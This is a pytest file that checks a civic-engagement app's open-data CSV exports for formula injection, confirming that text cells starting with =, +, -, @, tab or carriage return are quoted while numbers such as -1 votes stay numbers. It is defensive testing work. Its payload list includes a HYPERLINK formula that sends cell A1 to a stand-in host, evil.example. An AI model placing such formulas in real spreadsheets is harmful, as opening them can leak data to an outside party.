"""CSV formula injection (issue 13, item 3): a participant's words starting with =, +, -, @, a tab or a carriage
return must not reach a spreadsheet as a formula, in any CSV of the open data; numbers (a -1 vote) stay numbers."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
from django.urls import reverse

from coproduce.commonground import read_polis
from coproduce.conversations.actions import do_cast_vote
from coproduce.conversations.models import Statement
from coproduce.engagements.models import Engagement
from tests.open_data import build_open_data

DANGEROUS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1", "-cmd", "@SUM(A1:A9)", "\tx", "\rx"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?\d+(\.\d+)?([eE][-+]?\d+)?")


@pytest.fixture
def injected_world(api_world):
    world = api_world
    statements = world.public_statements[:3]
    # Straight into the table: the writing path collapses spaces, but an import or an old row need not have.
    for statement, text in zip(statements, DANGEROUS):
        Statement.objects.filter(pk=statement.pk).update(text=text)
    conversation = statements[0].conversation
    for n, text in enumerate(DANGEROUS[3:]):
        extra = Statement.objects.create(
            conversation=conversation,
            text=f"placeholder {n}",
            origin=Statement.Origin.SEED,
            status=Statement.Status.PUBLISHED,
        )
        Statement.objects.filter(pk=extra.pk).update(text=text)
        for person in world.public_people:
            do_cast_vote(person, extra, -1)
    perspective = world.public.perspectives.first()  # five of the six voters chose it: published
    perspective.name_en = "+Patients"
    perspective.save()
    Engagement.objects.filter(pk=world.public.pk).update(title_en='=HYPERLINK("x")', question_en="-What?")
    return world


def all_csv_cells(client, slug: str) -> dict[str, list[list[str]]]:
    build_open_data(Engagement.objects.get(slug=slug))
    response = client.get(reverse("api_pages:open_data_file", args=[slug, "open-data.zip"]))
    assert response.status_code == 200
    files = {}
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        for name in archive.namelist():
            if name.endswith(".csv"):
                text = archive.read(name).decode("utf-8")
                files[name.split("/", 1)[1]] = list(csv.reader(io.StringIO(text, newline="")))
    return files


def test_no_csv_of_the_open_data_starts_a_cell_with_a_formula_character(injected_world, client):
    files = all_csv_cells(client, injected_world.public.slug)
    assert set(files) == {
        "statements.csv",
        "votes.csv",
        "participants.csv",
        "perspectives.csv",
        "proposals.csv",
        "expert-input.csv",
        "decisions.csv",
        "iterations.csv",
        "actions.csv",
        "updates.csv",
        "feedback.csv",
        "polis/comments.csv",
        "polis/votes.csv",
        "polis/participants-votes.csv",
        "polis/summary.csv",
    }
    for name, rows in files.items():
        for row in rows:
            for cell in row:
                assert not (cell[:1] in TRIGGERS and not NUMBER.fullmatch(cell)), (name, cell)
    statement_texts = {row[3] for row in files["statements.csv"][1:]}
    comment_bodies = {row[-1] for row in files["polis/comments.csv"][1:]}
    for text in DANGEROUS:
        assert "'" + text in statement_texts, text
        assert "'" + text in comment_bodies, text
    assert "'+Patients" in {row[1] for row in files["perspectives.csv"][1:]}
    assert "'+Patients" in {row[1] for row in files["participants.csv"][1:]}
    summary = dict(files["polis/summary.csv"])
    assert (summary["topic"], summary["conversation-description"]) == ('\'=HYPERLINK("x")', "'-What?")


def test_numbers_stay_numbers(injected_world, client):
    files = all_csv_cells(client, injected_world.public.slug)
    assert "-1" in {row[2] for row in files["votes.csv"][1:]}
    assert "-1" in {row[4] for row in files["polis/votes.csv"][1:]}
    assert "-1" in {cell for row in files["polis/participants-votes.csv"][1:] for cell in row[7:]}
    assert "-1" in {row[5] for row in files["polis/comments.csv"][1:]}  # moderated out


def test_the_polis_files_read_back_with_the_original_words(injected_world, client, tmp_path):
    build_open_data(injected_world.public)
    response = client.get(reverse("api_pages:open_data_file", args=[injected_world.public.slug, "polis.zip"]))
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        archive.extractall(tmp_path)
    folder = next(Path(tmp_path).iterdir())
    texts = {m.text for m in read_polis(folder).statements}
    assert set(DANGEROUS) <= texts


@pytest.mark.parametrize(
    "value, expected",
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-cmd", "'-cmd"),
        ("@SUM", "'@SUM"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'=x", "''=x"),  # already quoted: quoted once more, so that reading back removes exactly one quote
        ("''-x", "'''-x"),
        ("'tis", "'tis"),
        ("plain", "plain"),
        ("", ""),
        ("a=b", "a=b"),
        (-1, -1),
        (0, 0),
        (1.5, 1.5),
        (None, None),
        (True, True),
    ],
)
def test_the_helper_neutralises_only_text(value, expected):
    from coproduce.commonground.polis import csv_text_cell, restore_text_cell
    from coproduce.core.csvsafe import safe_cell, safe_row

    assert safe_cell(value) == expected
    assert csv_text_cell(value) == expected  # the engine's own copy agrees
    if isinstance(value, str):
        assert restore_text_cell(csv_text_cell(value)) == value
    assert safe_row(["x", value]) == ["x", expected]
